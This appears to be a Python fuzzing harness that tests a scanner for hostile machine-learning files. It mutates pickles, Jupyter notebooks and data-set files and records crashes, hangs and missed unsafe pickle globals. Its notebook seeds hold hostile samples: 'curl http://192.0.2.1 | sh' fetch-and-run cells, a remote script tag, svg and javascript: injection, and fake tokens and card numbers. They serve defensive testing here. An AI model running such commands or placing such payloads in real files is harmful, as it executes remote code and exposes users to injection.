"""Fuzzing of everything that parses hostile bytes: ``python -m tests.fuzz --seconds 3600 --seed 1 [TARGET...]``.

A target is a technique of the corpus (the scanners, through the same entry as the product's), or a reader of data sets. Each input is a file of the corpus
that was changed; what may come out is a list of findings or a FormatError. Anything else is a failure: another exception, more processor time than
`SECONDS`, more memory than `MEMORY`, more findings than the limits allow, or a pickle that CPython's own unpickler asks for a global that nobody allowed
and that the scan passed. A failure's input is kept in ``fuzz-failures/``, and the exit code is 1.

A library written in C that ends the process, or is ended for the processor time that it takes (a scanner's process in the product: a finding, or "no
profile"), is counted apart, and its input kept.
"""

from __future__ import annotations

import argparse
import contextlib
import hashlib
import io
import json
import mmap
import multiprocessing
import os
import pickle
import random
import resource
import signal
import sys
import tempfile
import time
import traceback
import warnings
from collections import Counter
from collections.abc import Callable, Iterator
from functools import cache
from pathlib import Path
from types import FrameType
from typing import Any

for _folder in ("scan", "formats"):
    sys.path.insert(0, str(Path(__file__).parent / _folder))

SECONDS = 20
"""Processor time for one input of at most `LONGEST` bytes."""
GRACE = 60.0
"""Seconds that a turn may take longer: what a library computes is not interrupted."""
MEMORY = 3 << 30
LONGEST = 1 << 20
BATCH = 20.0
"""Seconds that a process fuzzes one target before the next one has its turn."""
Seed = tuple[str, bytes]


class HungError(Exception):
    """An input took more processor time than it may."""


class MissedError(Exception):
    """CPython would look up a global that nobody allowed, and the scan passed."""


@cache
def seeds() -> dict[str, list[Seed]]:
    """Names and bytes by target."""
    import hostile_files
    from honest_files import honest_files

    found: dict[str, list[Seed]] = {}
    for each in hostile_files.hostile_files():
        found.setdefault(each.technique, []).append((each.name, each.data))
    for each in honest_files():
        found.setdefault(f"honest {each.library}", []).append((each.name, each.data))
    found["notebooks"] = list(_notebooks())
    for family, (name, data) in _data_sets().items():
        found[f"data {family}"] = [(name, data)]
    return {target: kept for target, each in found.items() if (kept := [(name, data) for name, data in each if len(data) <= LONGEST // 4])}


def _notebooks() -> Iterator[Seed]:
    outputs = [
        {"output_type": "display_data", "data": {"text/html": "<script src='http://192.0.2.1/x'></script>", "image/svg+xml": "<svg onload='x()'/>"}},
        {"output_type": "error", "ename": "E", "evalue": "x", "traceback": ["\x1b[31mpassword='hunter2hunter2'"]},
        {"output_type": "stream", "name": "stdout", "text": ["AKIA", "ABCDEFGHIJKLMNOP", "\n"]},
    ]
    cells = [
        {
            "cell_type": "code",
            "source": ["!pip install x\n", "token = 'ghp_" + "a" * 36 + "'"],
            "metadata": {"jupyter": {"source_hidden": True}},
            "outputs": outputs,
        },
        {
            "cell_type": "markdown",
            "source": "<iframe src='http://192.0.2.1'></iframe> [x](javascript:y)",
            "metadata": {},
            "attachments": {"a": {"image/png": "AA=="}},
        },
        {"cell_type": "code", "source": "%%bash\ncurl http://192.0.2.1 | sh\n", "metadata": {}, "outputs": []},
        {"cell_type": "raw", "source": "4111 1111 1111 1111 ada@example.org DE89370400440532013000", "metadata": {"key": "c2VjcmV0"}},
    ]
    document = {"nbformat": 4, "nbformat_minor": 5, "metadata": {"widgets": {"x": {"state": {}}}}, "cells": cells}
    yield "m.ipynb", json.dumps(document).encode()
    yield "old.ipynb", json.dumps({"nbformat": 3, "worksheets": [{"cells": [{"cell_type": "code", "input": "!curl x | sh", "outputs": outputs}]}]}).encode()


def _data_sets() -> dict[str, Seed]:
    import gzip

    import numpy
    import pandas
    import pyarrow
    from PIL import Image
    from pyarrow import feather

    from jupyter_mlsc.scan.datasets.rows import DigestTable

    frame = pandas.DataFrame({"x": range(300), "t": [f"t{i % 7}" for i in range(300)], "f": [i / 7 for i in range(300)], "y": [i % 2 for i in range(300)]})
    table = pyarrow.Table.from_pandas(frame)

    def written(write: Callable[[io.BytesIO], object]) -> bytes:
        file = io.BytesIO()
        write(file)
        return file.getvalue()

    def streamed(file: io.BytesIO) -> None:
        with pyarrow.ipc.new_stream(file, table.schema) as writer:
            writer.write_table(table)

    text = frame.to_csv(index=False).encode()
    digests = numpy.arange(300, dtype="<u8")
    return {
        "csv": ("a.csv", text),
        "tsv": ("a.tsv", text.replace(b",", b"\t")),
        "csv-gzip": ("a.csv.gz", gzip.compress(text)),
        "jsonl": ("a.jsonl", frame.to_json(orient="records", lines=True).encode()),
        "parquet": ("a.parquet", written(frame.to_parquet)),
        "feather": ("a.feather", written(lambda file: feather.write_feather(table, file))),
        "arrow-stream": ("a.arrows", written(streamed)),
        "npy": ("a.npy", written(lambda file: numpy.save(file, frame[["x", "f"]].to_numpy()))),
        "npz": ("a.npz", written(lambda file: numpy.savez_compressed(file, x=frame["x"], y=frame["y"]))),
        "images": ("a.png", written(lambda file: Image.effect_noise((20, 20), 50).save(file, "PNG"))),
        "rows": ("a.rows", DigestTable(digests, digests).encoded()),
    }


def mutated(data: bytes, chance: random.Random, others: list[Seed]) -> bytes:
    """A few bytes changed, cut out, doubled, made a great number, or put in from elsewhere."""
    made = bytearray(data)
    for _ in range(chance.choice((1, 1, 2, 3, 6, 12))):
        at = chance.randrange(len(made) + 1)
        match chance.randrange(8):
            case 0:
                made[at : at + 1] = bytes([chance.randrange(256)])
            case 1:
                made[at : at + 1] = bytes([(made[at] if at < len(made) else 0) ^ 1 << chance.randrange(8)])
            case 2:
                del made[at : at + chance.randint(1, 40)]
            case 3:
                made[at:at] = made[at : at + chance.randint(1, 200)] * chance.randint(1, 4)
            case 4:
                made[at:at] = chance.randbytes(chance.randint(1, 8))
            case 5:
                width = chance.choice((1, 2, 4, 8))
                number = chance.choice((0, 1, -1, 2 ** (8 * width - 1) - 1, -(2 ** (8 * width - 1)), chance.randrange(1 << 16)))
                made[at : at + width] = (number % (1 << 8 * width)).to_bytes(width, chance.choice(("little", "big")))
            case 6:
                other = chance.choice(others)[1]
                start = chance.randrange(len(other) + 1)
                made[at:at] = other[start : start + chance.randint(1, 300)]
            case 7:
                del made[at:]
    return bytes(made[:LONGEST])


def inputs(target: str, chance: random.Random) -> Iterator[Seed]:
    """Changed files of a target, without an end; some of them within carriers, some under the name of another family."""
    import hostile_files

    own, every = seeds()[target], [each for kept in seeds().values() for each in kept]
    carriers = sorted(hostile_files.CARRIERS)
    while True:
        name, data = chance.choice(own)
        data = mutated(data, chance, every if chance.random() < 0.3 else own)
        if target.startswith("data "):
            yield name, data
            continue
        if chance.random() < 0.15:
            name = chance.choice(carriers)
            with contextlib.suppress(ValueError, OverflowError):  # some carriers take what looks like a pickle only
                data = hostile_files.CARRIERS[name](data)
        elif chance.random() < 0.15:
            name = chance.choice(every)[0]
        yield name, data


def scan(name: str, data: bytes) -> None:
    """Scan an input, and hold the result against what CPython would do with it, where it is a pickle."""
    from jupyter_mlsc.scan.engine import scan_stream
    from jupyter_mlsc.scan.finding import Finding, passes
    from jupyter_mlsc.scan.limits import Limits

    limits = Limits(members=2000, unpacked=64 << 20, held=16 << 20, opcodes=2_000_000, text=4 << 20)
    found = scan_stream(name, io.BytesIO(data), limits=limits)
    assert all(isinstance(each, Finding) for each in found)
    assert len(found) <= limits.findings + 1
    if name.endswith((".pkl", ".pickle")) and passes(found):
        asked = _Recording(io.BytesIO(data)).asked()
        if asked is not None:
            raise MissedError(f"{asked} would be looked up")


class _Anything:
    """Stands for whatever a pickle names: can be called, filled and given a state, and does nothing."""

    def __init__(self, *_: object, **__: object) -> None:
        pass

    def __setstate__(self, state: object) -> None:
        pass

    def __setitem__(self, key: object, value: object) -> None:
        pass

    def append(self, value: object) -> None:
        """As a list has it."""

    def extend(self, values: object) -> None:
        """As a list has it."""

    def add(self, value: object) -> None:
        """As a set has it."""


class _Recording(pickle.Unpickler):
    """CPython's unpickler, which is told that every global is `_Anything`, and remembers the first that nobody allowed."""

    def __init__(self, file: io.BytesIO) -> None:
        super().__init__(file)
        self._asked: str | None = None

    def find_class(self, module: str, name: str, /) -> Any:
        from jupyter_mlsc.scan.allowlist import is_allowed, is_allowed_if_checked

        # What is allowed with some arguments only, and the storages that torch names beside its tensors, may be named as long as nobody calls them.
        harmless = is_allowed_if_checked(module, name) or name == "getattr" or (module == "torch" and name.endswith("Storage"))
        if not harmless and not is_allowed(module, name, frozenset()):
            self._asked = self._asked or f"{module}.{name}"
        return _Anything

    def persistent_load(self, _: object, /) -> Any:
        return _Anything()

    def asked(self) -> str | None:
        """Load, whatever comes of it."""
        try:
            self.load()
        except HungError:
            raise
        except BaseException:  # noqa: BLE001  # what it does with the bytes is its business; what it asked for is ours
            pass
        return self._asked


def profile(family: str, data: bytes) -> None:
    """Have a data set looked at, as the inside of the process does that parses one."""
    from jupyter_mlsc.errors import FormatError
    from jupyter_mlsc.scan.datasets import profiling
    from jupyter_mlsc.scan.datasets.questions import Question
    from jupyter_mlsc.scan.datasets.rows import read_table

    with contextlib.suppress(FormatError, MemoryError):
        if family == "rows":
            read_table(data)
        elif family == "images":
            from jupyter_mlsc.scan.datasets.images import _Seen

            seen = _Seen()
            seen.add("class/a.png", data, b"key")
        else:
            family, _, packed = family.partition("-") if family.startswith("csv") else (family, "", "")
            with tempfile.TemporaryFile() as file:
                file.write(data)
                file.flush()
                separator = "\t" if family == "tsv" else ","
                question = Question("csv" if family == "tsv" else family, b"key".hex(), separator=separator, packed=packed or None)
                profiling.look(question, file.fileno(), None)


def try_one(target: str, name: str, data: bytes) -> None:
    """Put an input through a target."""
    if target.startswith("data "):
        profile(target.removeprefix("data "), data)
    else:
        scan(name, data)


def _hung(signum: int, frame: FrameType | None) -> None:
    del signum, frame
    raise HungError


def _limit() -> None:
    """What the process that scans has, and an end to processor time for each input."""
    used = int(Path("/proc/self/statm").read_text().split()[0]) * resource.getpagesize()
    resource.setrlimit(resource.RLIMIT_AS, (used + MEMORY, used + MEMORY))
    resource.setrlimit(resource.RLIMIT_CORE, (0, 0))
    signal.signal(signal.SIGPROF, _hung)
    warnings.simplefilter("ignore")


def _fuzz(target: str, seed: int, seconds: float, shared: mmap.mmap, results: Any) -> None:
    """Fuzz one target in this process, and tell how many inputs there were and what failed."""
    _limit()
    os.dup2(os.open(os.devnull, os.O_WRONLY), 2)
    from jupyter_mlsc.scan.processor_time import limit

    until, count, failures, slowest = time.monotonic() + seconds, 0, [], 0.0
    where: Counter[object] = Counter()
    for name, data in inputs(target, random.Random(f"{target} {seed}")):
        if time.monotonic() > until:
            break
        shared.seek(0)
        count += 1
        shared.write(b"".join(number.to_bytes(4, "little") for number in (count, len(name.encode()), len(data))) + name.encode() + data)
        began = time.process_time()
        limit(SECONDS + 10)  # as the product's process has it
        signal.setitimer(signal.ITIMER_PROF, SECONDS)
        try:
            try_one(target, name, data)
        except BaseException as err:  # noqa: BLE001  # whatever comes out is what is looked for
            places = tuple((each.filename, each.lineno) for each in traceback.extract_tb(err.__traceback__))
            where[type(err), places] += 1
            if where[type(err), places] == 1:
                failures.append((name, data, traceback.format_exc()))
        finally:
            signal.setitimer(signal.ITIMER_PROF, 0)
        slowest = max(slowest, time.process_time() - began)
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss << 10
    results.send((count, failures, slowest, peak))


def _keep(target: str, name: str, data: bytes, why: str) -> None:
    folder = Path("fuzz-failures")
    folder.mkdir(exist_ok=True)
    stem = f"{target.replace(' ', '-').replace(':', '')}-{hashlib.sha256(data).hexdigest()[:12]}"
    (folder / f"{stem}.bin").write_bytes(data)
    (folder / f"{stem}.txt").write_text(f"{target}\n{name}\n{why}")


class Campaign:
    """Targets in turn, each in a process of its own, until the time is over."""

    def __init__(self, targets: list[str], seed: int, seconds: float) -> None:
        self._targets, self._seed, self._until = targets, seed, time.monotonic() + seconds
        self.counts: Counter[str] = Counter()
        self.failures = 0
        self.ended: Counter[str] = Counter()
        self.slowest, self.peak = 0.0, 0

    def run(self) -> None:
        """Fuzz."""
        round_ = 0
        while time.monotonic() < self._until:
            for target in self._targets:
                left = self._until - time.monotonic()
                if left <= 0:
                    break
                self._turn(target, self._seed * 1_000_000 + round_, min(BATCH, left))
            round_ += 1

    def _turn(self, target: str, seed: int, seconds: float) -> None:
        context = multiprocessing.get_context("fork")
        shared = mmap.mmap(-1, LONGEST + 4096)
        ours, theirs = context.Pipe(duplex=False)
        process = context.Process(target=_fuzz, args=(target, seed, seconds, shared, theirs))
        process.start()
        theirs.close()
        told = ours.poll(seconds + GRACE)
        try:
            count, failures, slowest, peak = ours.recv() if told else (0, [], 0.0, 0)
        except EOFError:
            told, count, failures, slowest, peak = False, 0, [], 0.0, 0
        hangs = process.is_alive() and not told
        process.kill() if hangs else process.join()
        process.join()
        if not told:
            count, *lengths = (int.from_bytes(shared[at : at + 4], "little") for at in (0, 4, 8))
            name, data = shared[12 : 12 + lengths[0]].decode(), shared[12 + lengths[0] : 12 + sum(lengths)]
            how = "it hung in a library" if hangs else f"the process ended with {process.exitcode}"
            _keep(target, name, data, how)
            self.ended[f"{target}: {how}"] += 1
        self.counts[target] += count
        self.slowest, self.peak = max(self.slowest, slowest), max(self.peak, peak)
        for name, data, why in failures:
            _keep(target, name, data, why)
        self.failures += len(failures)
        note = "".join((f", {len(failures)} failures" if failures else "", "" if told else ", the process ended"))
        print(f"{target}: {count:,} inputs (seed {seed}){note}, at most {slowest:.2f} s and {peak >> 20:,} MiB", flush=True)


def main() -> int:
    """Fuzz, and say what was found."""
    parser = argparse.ArgumentParser(prog="python -m tests.fuzz", description=(__doc__ or "").splitlines()[0])
    parser.add_argument("targets", nargs="*", help="all of them where none is named")
    parser.add_argument("--seconds", type=float, default=60.0)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--again", type=Path, help="put one kept input through its target")
    asked = parser.parse_args()
    known = list(seeds())
    if asked.again is not None:
        target, name = asked.again.with_suffix(".txt").read_text().splitlines()[:2]
        _limit()
        try_one(target, name, asked.again.with_suffix(".bin").read_bytes())
        return 0
    unknown = set(asked.targets) - set(known)
    if unknown:
        parser.error(f"no target: {', '.join(sorted(unknown))}; there are: {', '.join(known)}")
    campaign = Campaign(asked.targets or known, asked.seed, asked.seconds)
    campaign.run()
    print(f"{sum(campaign.counts.values()):,} inputs of {len(campaign.counts)} targets, {campaign.failures} failures")
    used = resource.getrusage(resource.RUSAGE_CHILDREN)
    print(f"{used.ru_utime + used.ru_stime:.0f} s of processor time in all")
    print(f"at most {campaign.slowest:.2f} s of processor time and {campaign.peak >> 20:,} MiB")
    for what, count in campaign.ended.items():
        print(f"{what} ({count} times)")
    return 1 if campaign.failures or campaign.ended else 0


if __name__ == "__main__":
    sys.exit(main())
